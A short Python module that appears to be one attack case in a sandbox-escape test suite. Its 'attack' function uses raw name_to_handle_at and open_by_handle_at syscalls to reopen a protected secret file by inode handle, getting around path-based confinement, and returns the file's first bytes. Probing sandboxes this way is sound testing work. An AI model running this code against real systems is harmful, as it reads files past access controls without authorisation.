"""Names the secret to the kernel by its inode instead of its path."""

import ctypes
import os
import struct

from child import system_call


AT_FDCWD = -100
MOST_BYTES = 128


def attack(path, folder):
    handle = ctypes.create_string_buffer(struct.pack("I", MOST_BYTES), 8 + MOST_BYTES)
    mount = ctypes.c_int()
    there = ctypes.c_char_p(path.encode())
    system_call((303, 264), AT_FDCWD, there, handle, ctypes.byref(mount), 0)
    somewhere = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    return os.read(system_call((304, 265), somewhere, handle, os.O_RDONLY), 64).hex()
